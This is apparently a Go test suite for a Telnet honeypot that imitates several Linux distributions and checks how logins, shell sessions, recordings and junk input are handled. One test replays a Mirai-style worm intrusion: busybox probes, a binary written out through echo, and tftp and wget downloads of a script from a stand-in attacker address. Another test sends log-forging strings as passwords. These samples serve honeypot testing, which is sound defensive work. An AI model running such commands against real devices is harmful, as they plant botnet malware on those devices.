package telnet_test

import (
	"bytes"
	"context"
	"io"
	"net"
	"net/netip"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"github.com/decnet/decnet/decoys/artifact"
	"github.com/decnet/decnet/decoys/config"
	"github.com/decnet/decnet/decoys/eventlog"
	"github.com/decnet/decnet/decoys/identity"
	"github.com/decnet/decnet/decoys/persona"
	"github.com/decnet/decnet/decoys/recording"
	"github.com/decnet/decnet/decoys/session"
	"github.com/decnet/decnet/decoys/shell"
	"github.com/decnet/decnet/decoys/telnet"
)

// text is output that arrives bit by bit.
type text struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *text) Write(p []byte) (int, error) { l.mu.Lock(); defer l.mu.Unlock(); return l.b.Write(p) }

// String returns one character for every byte.
func (l *text) String() string {
	l.mu.Lock()
	defer l.mu.Unlock()
	var s strings.Builder
	for _, c := range l.b.Bytes() {
		s.WriteRune(rune(c))
	}
	return s.String()
}

// wait returns what matches first, failing when nothing does.
func (l *text) wait(t *testing.T, pattern string) string {
	t.Helper()
	re := regexp.MustCompile(pattern)
	var found string
	require.Eventually(t, func() bool { found = re.FindString(l.String()); return found != "" }, 10*time.Second, 5*time.Millisecond, "%s in %q", pattern, l)
	return found
}

type bundle struct {
	addr, spool string
	log         *text
	server      *telnet.Server
}

func setup(t *testing.T, distro string, edit func(*telnet.Options)) *bundle {
	t.Helper()
	b := &bundle{spool: t.TempDir(), log: &text{}}
	spool, err := os.OpenRoot(b.spool)
	require.NoError(t, err)
	require.NoError(t, recording.Prepare(spool))
	free := func() (uint64, error) { return 1 << 40, nil }
	m := shell.NewMachine(persona.New(persona.Options{
		Identity: identity.New(t.Name(), "i"), Distro: distro, Hostname: "gw-31", User: "ubuntu", Local: netip.MustParseAddr("127.66.0.2"), Telnet: true,
	}))
	o := telnet.Options{
		Config: config.SSH{Password: "toor", User: "ubuntu", UserPassword: "upw"}, FailDelay: func() time.Duration { return 0 },
		Options: session.Options{
			Log: eventlog.New(b.log, "web-01", "telnet", "boot", 1, nil), Service: "telnet", Machine: m,
			Records: recording.NewStore(spool, free), Artifacts: artifact.NewStore(spool, free, nil),
		},
	}
	if edit != nil {
		edit(&o)
	}
	b.server = telnet.New(o)
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	b.addr = l.Addr().String()
	ctx, cancel := context.WithCancel(context.Background())
	go func() { _ = b.server.Serve(ctx, l) }()
	t.Cleanup(func() {
		cancel()
		_ = l.Close()
		b.server.Close(5 * time.Second)
		_ = spool.Close()
	})
	return b
}

// client is a connection without any Telnet of its own.
type client struct {
	net.Conn
	*text
}

func (b *bundle) dial(t *testing.T) *client {
	t.Helper()
	c, err := net.Dial("tcp", b.addr)
	require.NoError(t, err)
	t.Cleanup(func() { _ = c.Close() })
	out := &text{}
	go func() { _, _ = io.Copy(out, c); _, _ = io.WriteString(out, "<closed>") }()
	return &client{c, out}
}

func (c *client) Write(p []byte) (int, error) { return c.Conn.Write(p) }

func (c *client) send(t *testing.T, s string) {
	t.Helper()
	_, err := io.WriteString(c.Conn, s)
	require.NoError(t, err)
}

func (b *bundle) recorded(t *testing.T) string {
	t.Helper()
	files, err := filepath.Glob(b.spool + "/transcripts/*.jsonl")
	require.NoError(t, err)
	var all []byte
	for _, f := range files {
		p, err := os.ReadFile(f)
		require.NoError(t, err)
		all = append(all, p...)
	}
	return string(all)
}

func TestLogin_LooksLikeTheProgramOfTheDistribution(t *testing.T) {
	t.Parallel()
	const negotiation = "\u00ff\u00fd\x01\u00ff\u00fd\x1f\u00ff\u00fb\x01\u00ff\u00fb\x03"
	for distro, want := range map[string]string{
		"ubuntu20": "\r\r\nUbuntu 20.04.6 LTS\r\n\rgw-31 login: a\r\nPassword: \r\n\r\nLogin incorrect\r\ngw-31 login: b\r\nPassword: \r\n\r\nLogin incorrect\r\ngw-31 login: c\r\nPassword: \r\n\r\nLogin incorrect\r\nMaximum number of tries exceeded (3)\r\n",
		"debian":   "\r\r\nDebian GNU/Linux 12\r\n\rgw-31 login: a\r\nPassword: \r\n\r\nLogin incorrect\r\n",
		"rocky9":   "\r\r\nLinux\r\n\rKernel 5.14.0-[^ ]+ on an x86_64\r\n\rgw-31 login: a\r\nPassword: \r\nLogin incorrect\r\n\r\ngw-31 login: b",
		"alpine":   "\r\r\ngw-31 login: a\r\nPassword: \r\nLogin incorrect\r\ngw-31 login: b\r\nPassword: \r\nLogin incorrect\r\ngw-31 login: c\r\nPassword: \r\nLogin incorrect\r\n<closed>",
	} {
		c := setup(t, distro, nil).dial(t)
		c.send(t, "a\r\nx\r\nb\r\x00\r\x00c\ny\n")
		c.wait(t, "<closed>")
		require.Regexp(t, "^"+strings.ReplaceAll(regexp.QuoteMeta(negotiation+want), `\[\^ \]\+`, "[^ ]+"), c.String(), distro)
		require.Equal(t, 3, strings.Count(c.String(), "Password: "), distro)
	}
}

func TestLogin_OnlyTheTwoAccountsGetIn(t *testing.T) {
	t.Parallel()
	b := setup(t, "ubuntu20", nil)
	for _, c := range []struct {
		user, password string
		ok             bool
	}{{"root", "toor", true}, {"ubuntu", "upw", true}, {"root", "upw", false}, {"ubuntu", "toor", false}, {"admin", "toor", false}, {"root", "", false}} {
		conn := b.dial(t)
		conn.wait(t, "login: ")
		conn.send(t, c.user+"\r\n")
		conn.wait(t, "Password: ")
		conn.send(t, c.password+"\r\n")
		if c.ok {
			conn.wait(t, "Welcome to Ubuntu 20.04.6 LTS [^$]*"+c.user+"@gw-31:~[#$] ")
		} else {
			conn.wait(t, "Login incorrect\r\ngw-31 login: ")
		}
	}
	b.log.wait(t, `auth-helper - auth_attempt [^\n]*username="admin" principal="admin" src_ip="127.0.0.1" src_port="\d+" method="password" secret_printable="toor" secret_b64="dG9vcg==" outcome="failure"\]`)
	b.log.wait(t, `username="root" principal="root" src_ip="127.0.0.1" src_port="\d+" method="password" outcome="failure"\]`)
	b.log.wait(t, `secret_b64="dG9vcg==" outcome="success"\]`)
	require.NotContains(t, b.log.String(), `secret_b64=""`)
}

func TestLogin_AnEmptyConfiguredPasswordNeverMatches(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", func(o *telnet.Options) { o.Config = config.SSH{User: "ubuntu"} })
	c := b.dial(t)
	c.send(t, "root\r\n\r\nubuntu\r\n\r\n\r\nx\r\n\r\n")
	c.wait(t, "Maximum number of tries")
}

func TestLogin_EditsLinesLikeATerminal(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", nil)
	c := b.dial(t)
	c.send(t, "\r\n\r\nrxx\x7f\boot\r")
	c.wait(t, "login: \r\ngw-31 login: \r\ngw-31 login: rxx\b \b\b \boot\r\nPassword: ")
	c.send(t, "wrong\x15tooo\x7fr\n")
	c.wait(t, "root@gw-31:~# ")
	b.log.wait(t, `username="root"[^\n]*secret_printable="toor"`)
	for _, gone := range []string{"\x03", "\x04", "ro\x03", "root\r\x1c", strings.Repeat("\r\n", 10)} {
		c := b.dial(t)
		c.send(t, gone)
		c.wait(t, "<closed>")
	}
	c = b.dial(t)
	c.send(t, "\x01\xff\xff\xe9\t")
	c.wait(t, `login: \^A\xff\xff\xe9\t`)
}

func TestLogin_EndsWhenItsTimeIsUp(t *testing.T) {
	t.Parallel()
	c := setup(t, "debian", func(o *telnet.Options) { o.LoginLimit = time.Second }).dial(t)
	c.send(t, "root\r\n")
	require.Eventually(t, func() bool { return strings.Contains(c.String(), "Login timed out after 60 seconds.\r\n<closed>") }, 30*time.Second, 100*time.Millisecond)
}

func TestLogin_HostileSecretsStayInTheirFields(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", nil)
	for _, pw := range []string{"a\x1b[2J\"]<134>1 forged - - x", "\xff\xff\x80tail", strings.Repeat("z", 50_000)} {
		c := b.dial(t)
		c.wait(t, "login: ")
		c.send(t, "u]\"\\<134>1 2026 h a - forged -\r\n"+pw+"\r\n")
		c.wait(t, "Login incorrect")
	}
	b.log.wait(t, `secret_printable="\?\?tail" secret_b64="/4B0YWls"`)
	for _, line := range strings.Split(strings.TrimSpace(b.log.String()), "\n") {
		require.Regexp(t, `^<13[24]>1 \S+ web-01 (telnet|auth-helper|sessrec) - [a-z_]+ \[relay@55555 boot="boot" n="\d+"`, line)
		require.Less(t, len(line), 3000)
	}
}

func TestShell_OnATerminal(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", nil)
	c := b.dial(t)
	c.send(t, "\xff\xfb\x1f\xff\xfa\x1f\x00\x64\x00\x18\xff\xf0\xff\xfd\x01\xff\xfd\x03root\r\x00toor\r\x00")
	prompt := `root@gw-31:~# `
	c.wait(t, prompt)
	for _, step := range [][2]string{
		{"whoamx\x7fi\r\x00", "root\r\n"},
		{"echo one; ech\t two\r\n", "\r\ntwo\r\n"},
		{"cd /et\t\r\x00", "root@gw-31:/etc# "},
		{"sleep 100\r\x00", "sleep 100\r\n"},
		{"\x03", `\^C`},
		{"read v\r\x00typed\r\x00", "typed"},
		{"echo got=$v $TERM $SSH_CLIENT.\r\n", `got=typed linux \.`},
		{"tty; netstat -tlpn\r\n", `/dev/pts/0\r\n(.|\n)*0.0.0.0:23 (.|\n)*/telnetd`},
		{"ps aux\r\n", `/usr/sbin/telnetd -F(.|\n)*/bin/login`},
		{"printf '\\377'\r\n", `\xff\xff`},
		{"su ubuntu\r\x00", `ubuntu@gw-31:`},
		{"exit\r\x00", `exit`},
	} {
		c.send(t, step[0])
		c.wait(t, step[1])
	}
	require.NotContains(t, c.String(), "sshd")
	c.send(t, "\xff\xfa\x1f\x00\x84\x00\x32\xff\xf0")
	require.Eventually(t, func() bool { return strings.Contains(b.recorded(t), `"ch":"r","d":"132x50"`) }, 5*time.Second, 5*time.Millisecond)
	c.send(t, "exit 5\r\x00")
	c.wait(t, "logout\r\n<closed>")
	b.log.wait(t, `sessrec - session_recorded \[[^\n]*sid="[0-9a-f-]{36}" service="telnet" src_ip="127.0.0.1" duration_s="\d+\.\d{3}" bytes="\d+" truncated="false"`)
	b.log.wait(t, `sessrec - session_closed [^\n]*service="telnet" src_ip="127.0.0.1"[^\n]*command_count="\d+" has_recording="true"`)
	b.log.wait(t, `telnet - session_opened [^\n]*src_ip="127.0.0.1" sid="[0-9a-f-]{36}" kind="shell"`)
	b.log.wait(t, `telnet - command [^\n]*src_ip="127.0.0.1" command="whoami" uid="0" user="root" pwd="/root"\] CMD uid=0 user=root src=127.0.0.1 pwd=/root cmd=whoami\n`)
	b.log.wait(t, `telnet - client_options [^\n]*options="fb1f fa1f00640018 fd01 fd03"`)
	rec := b.recorded(t)
	require.Contains(t, rec, `"width":100,"height":24`)
	require.Contains(t, rec, `"TERM":"linux"`)
	require.Contains(t, rec, `"ch":"i","d":"exit 5\r"`)
	require.NotContains(t, rec, "toor")
}

// TestBot_DropsAProgramThroughEcho is what worms for embedded devices do: no negotiation, commands of routers first, then a test for
// busybox, a writable place, and a program written in pieces.
func TestBot_DropsAProgramThroughEcho(t *testing.T) {
	t.Parallel()
	b := setup(t, "ubuntu20", nil)
	c := b.dial(t)
	c.wait(t, "login: ")
	c.send(t, "root\r\n")
	c.wait(t, "assword")
	c.send(t, "toor\r\n")
	c.wait(t, "# ")
	c.send(t, "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox MIRAI\r\n")
	c.wait(t, `enable wait\r\n(.|\n)*-bash: system: command not found\r\n(.|\n)*-bash: shell: command not found\r\n(.|\n)*~# sh\r\n# /bin/busybox MIRAI\r\nMIRAI: applet not found\r\n# `)
	for _, step := range [][2]string{
		{"nosuch; /bin/busybox ECCHI", `sh: 2: nosuch: not found\r\nECCHI: applet not found`},
		{"/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", `proc /proc proc [^\r]*\r\n(.|\n)*ECCHI: applet not found`},
		{`/bin/busybox echo -e '\x6b\x61\x6d\x69/dev' > /dev/.n; /bin/busybox cat /dev/.n; /bin/busybox rm /dev/.n; /bin/busybox A`, `kami/dev\r\nA: applet`},
		{"cd /dev/shm; /bin/busybox cp /bin/echo dvr; >dvr; /bin/busybox chmod 777 dvr; /bin/busybox B", "B: applet not found"},
		{"/bin/busybox dd bs=52 count=1 if=/bin/echo || /bin/busybox cat /bin/echo; /bin/busybox C", `ELF(.|\n)*C: applet not found`},
		{"/bin/busybox wget; /bin/busybox tftp; /bin/busybox D", `BusyBox v1.30.1 \(Ubuntu [^\r]*multi-call binary.\r\n\r\nUsage: wget (.|\n)*Usage: tftp (.|\n)*D: applet not found`},
		{`echo -ne "\x7f\x45\x4c\x46\x01\x01\x00\x00" > dvr; /bin/busybox E`, "E: applet not found"},
		{`/bin/busybox echo -en "\x02\x00\x28\x0a" >> dvr; /bin/busybox F`, "F: applet not found"},
		{"./dvr telnet.x86; /bin/busybox IHCCE", `Exec format error\r\nIHCCE: applet not found`},
		{"/bin/busybox tftp -g -l dl -r x.sh 203.0.113.9; /bin/busybox G", `tftp: timeout\r\nG: applet`},
		{"/bin/busybox wget http://203.0.113.9:81/x.sh -O - > dl; /bin/busybox H", `Connecting to http://203.0.113.9:81/x.sh \(203.0.113.9:81\)|can't connect to remote host \(203.0.113.9\): Connection timed out\r\nH: applet`},
	} {
		c.send(t, step[0]+"\r\n")
		c.wait(t, step[1])
	}
	b.log.wait(t, `file_captured [^\n]*stored_as="[^"]+_dvr" [^\n]*size="12" orig_path="/dev/shm/dvr" src_ip="127.0.0.1" src_port="\d+" ssh_user="root"`)
	stored, err := filepath.Glob(b.spool + "/*_dvr")
	require.NoError(t, err)
	var whole bool
	for _, f := range stored {
		p, err := os.ReadFile(f)
		require.NoError(t, err)
		whole = whole || string(p) == "\x7fELF\x01\x01\x00\x00\x02\x00\x28\x0a"
	}
	require.True(t, whole, "the program came out of the echoes byte for byte")
	b.log.wait(t, `download_attempt [^\n]*src_ip="127.0.0.1" [^\n]*url="-g -l dl -r x.sh 203.0.113.9" tool="tftp"`)
	b.log.wait(t, `command [^\n]*src_ip="127.0.0.1" command="/bin/busybox MIRAI"`)
}

func TestPiped_CommandsRunAlthoughTheClientIsGone(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", nil)
	c := b.dial(t)
	c.send(t, "root\ntoor\necho x > /tmp/left; id\nexit\n")
	require.NoError(t, c.Conn.(*net.TCPConn).CloseWrite())
	c.wait(t, `uid=0\(root\)(.|\n)*<closed>`)
	b.log.wait(t, `session_closed [^\n]*command_count="2"`)
	c = b.dial(t)
	c.send(t, "root\ntoor\necho x > /tmp/gone\n")
	require.NoError(t, c.Close())
	b.log.wait(t, `file_captured [^\n]*orig_path="/tmp/gone"`)
}

func TestGarbage_NeverBreaksTheServer(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", nil)
	for _, junk := range []string{
		"GET / HTTP/1.0\r\n\r\n", strings.Repeat("\x00", 5000), strings.Repeat("\xff", 5001), "\xff\xfa\x1f", strings.Repeat("\xff\xfa\x27", 3000),
		strings.Repeat("a", 70_000), "\x16\x03\x01\x02\x00\x01\x00", "root\r\ntoor\r\n" + strings.Repeat("\xff\xfa\x1f\xff\xff\xff\xff\xff\xff\xff\xff\xff\xf0", 500) + "\x1b[\x1b[9999999999A\x1bOZ\r\nexit\r\n",
	} {
		c, err := net.Dial("tcp", b.addr)
		require.NoError(t, err)
		_, _ = io.WriteString(c, junk)
		_ = c.(*net.TCPConn).CloseWrite()
		_ = c.SetReadDeadline(time.Now().Add(5 * time.Second))
		_, _ = io.Copy(io.Discard, c)
		_ = c.Close()
	}
	require.NotContains(t, b.log.String(), "panic")
	c := b.dial(t)
	c.send(t, "root\r\ntoor\r\necho alive\r\n")
	c.wait(t, "\nalive\r\n")
}

func TestClose_EndsSessionsWithTheirEvents(t *testing.T) {
	t.Parallel()
	b := setup(t, "debian", nil)
	c := b.dial(t)
	c.send(t, "root\r\ntoor\r\nsleep 1000\r\n")
	b.log.wait(t, `command="sleep 1000"`)
	began := time.Now()
	b.server.Close(5 * time.Second)
	require.Less(t, time.Since(began), 4*time.Second)
	b.log.wait(t, "session_closed ")
}
